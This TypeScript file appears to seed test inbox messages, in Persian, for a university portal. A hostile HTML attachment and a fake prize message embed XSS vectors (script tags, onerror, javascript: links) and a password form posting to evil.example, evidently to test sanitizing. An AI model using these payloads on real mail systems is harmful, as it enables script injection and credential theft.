import { PLAIN_PDF, PLAIN_PNG } from './trackerFiles.ts'

/** A file of a message. */
export interface MessageFileSeed {
  readonly id: number
  readonly name: string
  readonly type: string
  readonly content: Buffer
}

/** A message in the inbox of somebody of aftab. */
export interface MessageSeed {
  /** The id of the message and of the copy. */
  readonly id: number
  readonly username: string
  readonly sender: string
  readonly subject: string
  /** HTML, or a body as it is sent, which is no base64. */
  readonly body: { readonly html: string } | { readonly sent: string }
  /** Before the instant of seeding. */
  readonly hoursAgo: number
  readonly read?: boolean
  readonly forceRead?: boolean
  /** How often marking it as read fails. */
  readonly failingMarks?: number
  readonly files?: readonly MessageFileSeed[]
}

const STUDENT_AFFAIRS = 'معاونت دانشجویی'
const EDUCATION = 'معاونت آموزشی'
const TECHNOLOGY = 'مرکز فناوری اطلاعات'

const forced: readonly MessageSeed[] = [
  {
    id: 701,
    username: 'vahid',
    sender: STUDENT_AFFAIRS,
    subject: 'آیین‌نامهٔ تازهٔ سلف',
    body: { html: '<p>از این هفته <b>کارت دانشجویی</b> را هنگام دریافت غذا همراه داشته باشید.</p>' },
    hoursAgo: 3,
    forceRead: true,
  },
  {
    id: 702,
    username: 'vahid',
    sender: EDUCATION,
    subject: 'مهلت حذف و اضافه',
    body: { html: '<p>حذف و اضافه تا <i>پنج‌شنبه ساعت ۱۸</i> باز است و تمدید نمی‌شود.</p>' },
    hoursAgo: 27,
    forceRead: true,
    failingMarks: 1,
  },
  {
    id: 703,
    username: 'vahid',
    sender: TECHNOLOGY,
    subject: 'هشدار پیامک‌های جعلی',
    body: { html: '<p>دانشگاه هرگز با پیامک گذرواژه نمی‌خواهد. اگر چنین پیامکی رسید به ما خبر دهید.</p>' },
    hoursAgo: 52,
    forceRead: true,
  },
  {
    id: 704,
    username: 'mustchange',
    sender: TECHNOLOGY,
    subject: 'چرا باید گذرواژه‌ام را عوض کنم؟',
    body: { html: '<p>گذرواژه‌ای که دانشگاه می‌دهد تنها برای نخستین ورود است.</p>' },
    hoursAgo: 5,
    forceRead: true,
  },
]

const hostile = Buffer.from('<!doctype html><title>گزارش</title><script>window.hacked = true</script>')

const ofSahar: readonly MessageSeed[] = [
  {
    id: 711,
    username: 'sahar',
    sender: STUDENT_AFFAIRS,
    subject: 'تمدید کارت دانشجویی',
    body: {
      html: '<p>کارت شما تا پایان ماه اعتبار دارد.</p><ul><li>یک قطعه عکس</li><li>کارت پیشین</li></ul><p><a href="https://www.example.org/card">نوبت بگیرید</a></p>',
    },
    hoursAgo: 2,
  },
  {
    id: 712,
    username: 'sahar',
    sender: EDUCATION,
    subject: 'کارنامه و برنامهٔ امتحان‌ها',
    body: { html: '<p>کارنامهٔ نیمسال پیش، برنامهٔ امتحان‌ها و نقشهٔ سالن‌ها پیوست است.</p>' },
    hoursAgo: 20,
    files: [
      { id: 601, name: 'کارنامه.pdf', type: 'application/pdf', content: PLAIN_PDF },
      { id: 602, name: 'نقشهٔ سالن‌ها.png', type: 'image/png', content: PLAIN_PNG },
      { id: 603, name: 'برنامه.html', type: 'text/html', content: hostile },
    ],
  },
  {
    id: 713,
    username: 'sahar',
    sender: TECHNOLOGY,
    subject: 'برندهٔ قرعه‌کشی شدید',
    body: {
      html: '<p onclick="window.hacked = true">برای دریافت جایزه <a href="javascript:window.hacked = true">اینجا</a> بزنید.</p><script>window.hacked = true</script><img src="x" onerror="window.hacked = true"><form action="https://evil.example"><input name="password"></form><style>body { display: none }</style><iframe src="https://evil.example"></iframe><strong>تا فردا فرصت دارید.</strong>',
    },
    hoursAgo: 44,
  },
  {
    id: 714,
    username: 'sahar',
    sender: STUDENT_AFFAIRS,
    subject: 'پیام از سامانهٔ پیشین',
    body: { sent: 'این پیام از سامانهٔ پیشین آمده است: <b>نوبت شما ساعت ۱۰ است.</b>' },
    hoursAgo: 70,
  },
  {
    id: 715,
    username: 'sahar',
    sender: STUDENT_AFFAIRS,
    subject: 'تعهدنامهٔ استفاده از آزمایشگاه',
    body: { html: '<p>با خواندن این پیام مقررات آزمایشگاه را می‌پذیرید.</p>' },
    hoursAgo: 120,
    read: true,
    forceRead: true,
  },
  {
    id: 716,
    username: 'sahar',
    sender: EDUCATION,
    subject: 'خوش آمدید',
    body: { html: '<p>سال تحصیلی تازه بر شما <em>خجسته</em> باد.</p>' },
    hoursAgo: 900,
    read: true,
  },
]

/** The messages of aftab that scenarios know by name. */
export const messageSeeds: readonly MessageSeed[] = [...forced, ...ofSahar]
